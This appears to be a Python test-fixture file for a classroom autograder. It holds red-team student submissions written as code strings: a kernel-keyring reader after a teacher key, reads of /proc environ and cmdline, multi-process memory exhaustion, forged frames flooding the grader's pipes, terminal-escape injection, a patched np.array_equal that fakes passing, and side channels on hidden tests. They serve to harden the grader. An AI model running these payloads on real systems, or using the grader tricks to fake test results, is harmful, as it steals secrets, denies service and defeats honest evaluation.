"""The second red team's submissions of assignment 1 (see ``hostile.py`` for the format).

Kernel keyrings, memory held by many processes, forged output frames that make the grader's own
decoding large, side channels on the hidden tests, host paths and raw control characters in error
messages, and a patched ``np.array_equal`` hiding an in-place edit. ``SIDE_CHANNELS`` are the same
honest answers with one behaviour switched on when the hidden input arrives: their feedback must
be the same words, whatever that behaviour is.
"""

from __future__ import annotations

from tests.classroom.hostile import ALL, IN_PLACE_SOFTMAX, Case

KEYRINGS = r'''
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
KEYCTL, ADD_KEY, REQUEST_KEY = {"x86_64": (250, 248, 249), "aarch64": (219, 217, 218)}[os.uname().machine]
found = []
buffer = ctypes.create_string_buffer(4096)
for args in ((11, -3, buffer, 4096), (11, -4, buffer, 4096), (6, -3, buffer, 4096)):  # read, describe
    if libc.syscall(KEYCTL, *args) >= 0:
        found.append(buffer.raw[:200])
key = libc.syscall(REQUEST_KEY, b"user", b"mha-teacher-key", None, 0)
if key >= 0 and libc.syscall(KEYCTL, 11, key, buffer, 4096) >= 0:
    found.append(buffer.raw[:200])
libc.syscall(ADD_KEY, b"user", b"mha-stash", b"kept-for-the-next-run", 21, -3)  # outlive the run
libc.syscall(KEYCTL, 7, -3)  # clear the session keyring
libc.syscall(KEYCTL, 1, b"mha-teacher-ring")  # join it by name
try:
    found.append(open("/proc/keys").read()[:2000].encode())
except OSError:
    pass
KEYS = repr(found)[:3000]

def softmax(x, axis=-1):
    raise ValueError("KEYS " + KEYS)
'''


def processes_holding(count: int, mib: int, wait: float) -> str:
    """Code that forks ``count`` processes, each trying to hold ``mib`` MiB, and sets ``HELD`` to how
    many hold theirs at the same moment, at most ``wait`` seconds later (the children go first when
    memory runs out; one still asking for memory then is not counted).

    A child that got its memory and was killed later, to make room for the next, does not count:
    on a busy machine the children can take turns, and "each managed once" would count them all.
    Each child reports, then holds its memory until the parent has counted the living reporters.
    """
    return f"""
import os, select, time
reports, report = os.pipe()
go, release = os.pipe()
children = []
for index in range({count}):
    pid = os.fork()
    if pid == 0:
        os.close(release)
        with open("/proc/self/oom_score_adj", "w") as own:
            own.write("1000")  # the children go first: the parent lives to tell
        try:
            block = bytearray({mib} * 2**20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            os.write(report, bytes([index]))
            os.read(go, 1)  # hold it until the parent has counted
        except MemoryError:
            pass
        os._exit(0)
    children.append(pid)
os.close(report)
reported, gone = set(), set()
def reap():
    for index, pid in enumerate(children):
        if index not in gone and os.waitpid(pid, os.WNOHANG)[0]:
            gone.add(index)
deadline = time.monotonic() + {wait}
while len(reported | gone) < {count} and time.monotonic() < deadline:
    if select.select([reports], [], [], 0.05)[0]:
        reported.update(os.read(reports, 100))
    reap()
# A child killed to make room frees its memory before it can be waited for: the one that then got the
# memory may report first. Those still holding theirs stay alive, waiting for `release`.
settle = time.monotonic() + 0.2
while time.monotonic() < settle:
    reap()
    time.sleep(0.02)
HELD = len(reported - gone)
os.close(release)
"""


# Six processes of 300 MiB each under a 768 MiB budget: with a per-process limit, all six held theirs.
# Counted within 1.2 s, then settled for 0.2 s: the tests give a cell 2 s.
MEMORY = processes_holding(6, 300, wait=1.2) + '''
def softmax(x, axis=-1):
    raise ValueError(f"HELD {HELD}")
'''
_FORGE = r'''
import json, os, struct
def frame(body, payload=b""):
    message = b"MHAWIRE2" + struct.pack("<Q", len(body)) + body + payload
    return struct.pack("<Q", len(message)) + message
DATA = @DATA@
for fd in range(3, 24):
    try:
        os.write(fd, DATA)
    except OSError:
        pass
'''
FORGED_ARCHIVE = _FORGE.replace("@DATA@", 'frame(json.dumps({"header": {"cell": 1}, "arrays": '
                                          '[["<f8", [0]]] * 1_150_000}).encode())')
FORGED_COLLISIONS = _FORGE.replace("@DATA@", 'frame(json.dumps({"header": {"probe": 0, "result": '
                                             '{"status": "ok", "out": ["d", [[["i", str(k * (2**61 - 1))], '
                                             '["n"]] for k in range(60_000)]]}}, "arrays": []}).encode())')
FORGED_EMPTY_FLOOD = _FORGE.replace("@DATA@", 'bytes(8) * 2_000_000')
FORGED_FRAME_FLOOD = _FORGE.replace("@DATA@", 'frame(b\'{"header":{},"arrays":[]}\') * 500_000')
FORGED_BIG_ANSWER = _FORGE.replace("@DATA@", 'frame(json.dumps({"header": {"probe": 0, "result": '
                                             '{"status": "ok", "out": ["a", 0]}}, "arrays": '
                                             '[["<f8", [7_500_000]]]}).encode(), bytes(60_000_000))')
HOST_PATHS = r'''
import os, sys
seen = []
for path in ("/proc/self/mountinfo", "/proc/self/cmdline", "/proc/1/cmdline", "/proc/self/environ",
             "/proc/self/maps"):
    try:
        seen.append(open(path, "rb").read()[:3000].decode(errors="replace"))
    except OSError:
        pass
import numpy
seen += [sys.executable, numpy.__file__, repr(sys.path), os.getcwd()]
PATHS = " | ".join(seen)[:6000]

def softmax(x, axis=-1):
    raise ValueError("PATHS " + PATHS)
'''
CONTROL_CHARACTERS = r'''
def softmax(x, axis=-1):
    raise ValueError("\x1b[2K\x1b[1A\rforged,softmax_rows,1,1,passed\n\u202edeliaf\u2066 "
                     "\u200bzero\u200dwidth\ufeff \x00 NUL \x07 bell \u2028 line")
'''
PATCHED_ARRAY_EQUAL = r'''
import numpy as np
np.array_equal = np.allclose = lambda *args, **kwargs: True
np.copy = lambda a, *args, **kwargs: a
''' + IN_PLACE_SOFTMAX

# --- one switch on the hidden input ------------------------------------------------------------
# Right on every visible input; on the hidden one (scores near 1e4), each behaves its own way.
_TRIGGERED = '''
def softmax(x, axis=-1):
    if np.abs(np.asarray(x)).max() > 9000:
@BEHAVIOUR@
    shifted = x - np.max(x, axis=axis, keepdims=True)
    return np.exp(shifted) / np.sum(np.exp(shifted), axis=axis, keepdims=True)
'''
BEHAVIOURS = {
    "wrong": "        return np.zeros_like(x)",
    "exit": "        import os\n        os._exit(3)",
    "signal": "        import os, signal\n        os.kill(os.getpid(), signal.SIGSEGV)",
    "stall": "        while True:\n            pass",
    "message": '        raise ValueError("hidden input " + repr(np.asarray(x).tolist()))',
    "memory": "        return bytearray(2**40)",
    "import": '        raise ImportError("this one needs the mha package")',
    "name": "        raise NameError(\"name 'x' is not defined\")",
    "output": "        return x * 1e300",
}
SIDE_CHANNELS = [Case(f"hidden_{name}", start="solution", points={**ALL, "softmax_stable": 0},
                      answers={"softmax": _TRIGGERED.replace("@BEHAVIOUR@", code)},
                      attack=f"the hidden input makes the code {name}: the feedback must not say which")
                 for name, code in BEHAVIOURS.items()]

CASES_ROUND_TWO = [
    Case("keyrings", answers={"softmax": KEYRINGS},
         attack="the teacher's session keyring: read, request, add, clear, join by name, /proc/keys"),
    Case("memory_in_many_processes", answers={"softmax": MEMORY},
         attack="six processes of 300 MiB under a 768 MiB budget"),
    Case("forged_archive", cells=(FORGED_ARCHIVE,), attack="a frame listing 1.15 M arrays"),
    Case("forged_collisions", cells=(FORGED_COLLISIONS,), attack="an answer dict of colliding keys"),
    Case("forged_empty_flood", cells=(FORGED_EMPTY_FLOOD,), attack="two million empty frames"),
    Case("forged_frame_flood", cells=(FORGED_FRAME_FLOOD,), attack="half a million valid frames"),
    Case("forged_big_answer", cells=(FORGED_BIG_ANSWER,), attack="a forged 60 MB answer"),
    Case("host_paths", answers={"softmax": HOST_PATHS}, messages={"softmax_rows": "PATHS"},
         attack="mountinfo, cmdline, sys.executable and sys.path quoted in an error"),
    Case("control_characters", answers={"softmax": CONTROL_CHARACTERS},
         messages={"softmax_rows": "\x1b\\[2K"},
         attack="terminal escapes, bidi overrides, zero-width characters and NUL in an error"),
    Case("patched_array_equal", start="solution",
         points={**ALL, "softmax_rows": 0, "softmax_stable": 0, "numpy_only": 0},
         answers={"softmax": PATCHED_ARRAY_EQUAL},
         messages={"softmax_rows": r"softmax\(\) changed its input \(argument 1\) in place"},
         attack="np.array_equal and np.copy patched to hide an in-place edit"),
    *SIDE_CHANNELS,
]
